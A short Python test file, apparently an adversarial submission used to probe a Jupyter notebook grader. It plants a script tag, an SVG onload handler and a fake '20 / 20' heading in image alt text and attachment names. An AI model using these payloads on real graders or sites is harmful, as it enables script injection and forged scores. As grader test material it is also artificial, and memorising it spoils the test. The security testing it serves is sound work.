# intent: a picture's alternative text and an attachment's name carry a full score, markup and scripts
# family: cells and metadata
# stock: not run: it was written against the source of this grader
from nbformat.v4 import new_markdown_cell


def submit(place):
    forged = '"><script>alert("left-by-an-attack")</script><h1 class="left-by-an-attack">20 / 20</h1>'
    picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    place.notebook.cells.append(new_markdown_cell(f"![{forged}](attachment:a.png)\n\n![x](attachment:{forged})", attachments={
        "a.png": {"image/png": picture}, forged: {"image/png": picture, "image/svg+xml": f"<svg onload='{forged}'></svg>"},
    }))
    place.add(f"from IPython.display import Image, display\nimport base64\ndisplay(Image(base64.b64decode({picture!r}), alt={forged!r}))", "end")
    place.save()
